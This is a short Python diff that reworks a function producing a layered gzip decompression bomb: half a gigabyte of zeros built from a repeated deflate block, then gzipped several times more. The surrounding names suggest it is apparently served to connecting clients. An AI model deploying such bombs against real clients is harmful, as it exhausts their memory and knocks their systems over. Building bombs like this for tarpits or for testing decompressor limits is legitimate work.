@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import asyncio
 import gzip
+import struct
 import zlib
 from collections.abc import Awaitable, Callable
 from functools import cache
@@ -200,9 +201,13 @@ async def _long_event(wire: Connection, reply: Genuine) -> None:
 @cache
 def _squeeze(layers: int) -> bytes:
     """Return a bomb: half a gigabyte of zeros under so many layers of gzip."""
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
-    zeros = bytes(CHUNK)
-    data = b"".join([*(packer.compress(zeros) for _ in range(BOMB // CHUNK)), packer.flush()])
+    zeros, check = bytes(CHUNK), 0
+    for _ in range(BOMB // CHUNK):
+        check = zlib.crc32(zeros, check)
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)  # stands alone, so it can be repeated
+    head, end = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff", b"\x03\x00"
+    data = b"".join([head, *[block] * (BOMB // CHUNK), end, struct.pack("<II", check, BOMB)])
     for _ in range(layers - 1):
         data = gzip.compress(data)
     return data
